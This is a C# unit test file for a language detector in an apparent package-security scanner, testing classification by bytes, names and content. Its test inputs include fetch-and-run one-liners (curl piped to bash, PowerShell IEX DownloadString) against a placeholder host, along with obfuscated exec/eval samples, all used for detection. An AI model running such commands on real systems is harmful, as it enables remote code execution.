using System.Text;
using PackageWall.Inspection.Languages;

namespace PackageWall.Inspection.Tests.Languages;

/// <summary>What a file is: by its bytes first, then by its name, then by what it reads like.</summary>
public sealed class LanguageSnifferTests
{
    [Theory]
    [InlineData("a/b.py", "x = 1", Language.Python)]
    [InlineData("b.mjs", "x", Language.JavaScript)]
    [InlineData("b.tsx", "x", Language.JavaScript)]
    [InlineData("x.pth", "import os", Language.Pth)]
    [InlineData("build/A.targets", "<Project/>", Language.MsBuild)]
    [InlineData("tools/init.ps1", "", Language.PowerShell)]
    [InlineData("binding.gyp", "{}", Language.Gyp)]
    [InlineData("package.json", "{}", Language.Json)]
    [InlineData("run", "#!/usr/bin/env python3\nx", Language.Python)]
    [InlineData("bin/cli", "#!/usr/bin/env node\nx", Language.JavaScript)]
    [InlineData("install", "#!/bin/sh -e\nx", Language.Shell)]
    [InlineData("LICENSE", "Permission is hereby granted, free of charge, to any person", Language.Text)]
    [InlineData("README.md", "# Title\n\nInstall it with pip and import it.", Language.Text)]
    [InlineData("notes.txt", "import os\nimport sys\ndef f(x):\n    return x\n", Language.Python)]
    [InlineData("data.txt", "const fs = require('fs');\nmodule.exports = { a: 1 };", Language.JavaScript)]
    public void Files(string path, string text, string language) =>
        LanguageSniffer.Sniff(path, Encoding.UTF8.GetBytes(text)).ShouldBe(language);

    [Theory]
    [InlineData("import os;os.system('x')", Language.Python)]
    [InlineData("exec(__import__('zlib').decompress(b'x'))", Language.Python)]
    [InlineData("const a = require('child_process').exec('x')", Language.JavaScript)]
    [InlineData("!function(){var _0x12ab=1;eval(_0x12ab)}()", Language.JavaScript)]
    [InlineData("curl -s https://a.invalid/x | bash", Language.Shell)]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://a.invalid')", Language.PowerShell)]
    [InlineData("Dear reader, this is a text. It imports nothing.", Language.Text)]
    [InlineData("{\"a\": [1, 2], \"import\": \"os\"}", Language.Json)]
    [InlineData("[1]; require('child_process').exec('x'); module.exports = [2]", Language.JavaScript)]
    public void Layers(string text, string language) =>
        LanguageSniffer.SniffLayer(Encoding.UTF8.GetBytes(text)).ShouldBe(language);

    [Fact]
    public void The_mark_of_the_byte_order_hides_no_project()
    {
        LanguageSniffer.Sniff("build/tasks.xml", Encoding.UTF8.GetBytes("\uFEFF<Project><Target Name=\"a\" /></Project>")).ShouldBe(Language.MsBuild);
        LanguageSniffer.Sniff("lib/a.xml", Encoding.UTF8.GetBytes("\uFEFF<?xml version=\"1.0\"?><doc>const a = require('x'); module.exports = a;</doc>")).ShouldBe(Language.Text);
    }

    [Fact]
    public void A_long_source_map_is_no_code()
    {
        string map = "{\"version\":3,\"sourcesContent\":[\"" + string.Concat(Enumerable.Repeat("const a = require('x'); ", 5_000)) + "\"]}";

        LanguageSniffer.Sniff("index.js.map", Encoding.UTF8.GetBytes(map)).ShouldBe(Language.Json);
        LanguageSniffer.Sniff("index.js.map", Encoding.UTF8.GetBytes(map + ";require('y')")).ShouldBe(Language.JavaScript);
    }

    [Fact]
    public void Bytes_win_over_names()
    {
        LanguageSniffer.Sniff("x.txt", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0]).ShouldBe(Language.Native);
        LanguageSniffer.Sniff("x.py", [0, (byte)'a', (byte)'s', (byte)'m', 1, 0, 0, 0]).ShouldBe(Language.Native);
        LanguageSniffer.Sniff("x.png", [0x50, 0x4B, 3, 4, 0, 0]).ShouldBe(Language.Archive);
        LanguageSniffer.Sniff("x.js", File.ReadAllBytes(typeof(LanguageSniffer).Assembly.Location)).ShouldBe(Language.DotNet);
    }

    [Theory]
    [InlineData(".page { color: red }", true)]
    [InlineData("/* licence */\n// more\n@media print { a {} }", true)]
    [InlineData(":root { --x: 1 }", true)]
    [InlineData("# A heading\n```js\nf()\n```", true)]
    [InlineData("---\ntitle: x\n---\n", true)]
    [InlineData("<svg><a/></svg>", true)]
    [InlineData("/*! x */\n\nhtml {\n  color: red }", true)]
    [InlineData("* { margin: 0 }", true)]
    [InlineData("[class*=col-] { margin: 0 }", true)]
    [InlineData("[class { static x = f() }]", false)]
    [InlineData("<!DOCTYPE html>", true)]
    [InlineData("MIT License\n", true)]
    [InlineData("Copyright 2015, A. Person", true)]
    [InlineData("/* x */\n#include \"x.h\"\n", true)]
    [InlineData("return 5", false)]
    [InlineData("x\n{ f() }", false)]
    [InlineData("x /* */ {", false)]
    [InlineData("x in y", false)]
    [InlineData("async x => f()", false)]
    [InlineData("module x {}", false)]
    [InlineData("type A = 1", false)]
    [InlineData("f ()", false)]
    [InlineData("label: f()", false)]
    [InlineData("\\u0061sync x", false)]
    [InlineData("<!-- a comment of the first line -->\nf()", false)]
    [InlineData("@decorator class A {}", false)]
    [InlineData("@use class A { static x = f() }", false)]
    [InlineData("@media (f) class A {}", false)]
    [InlineData("@use 'sass:math';", true)]
    [InlineData("// x\u2028f()\n.a {}", false)]
    [InlineData(".5.toString()", false)]
    [InlineData("#!/usr/bin/env node\nf()", false)]
    [InlineData("--x; f()", false)]
    [InlineData("/* .a {} */ f()", false)]
    [InlineData("// .a\u2028f()", false)]
    [InlineData("/* unclosed .a", false)]
    [InlineData("", false)]
    public void Some_beginnings_are_those_of_no_script(string text, bool cannotRun) =>
        LanguageSniffer.CannotRun(System.Text.Encoding.UTF8.GetBytes(text)).ShouldBe(cannotRun);
}
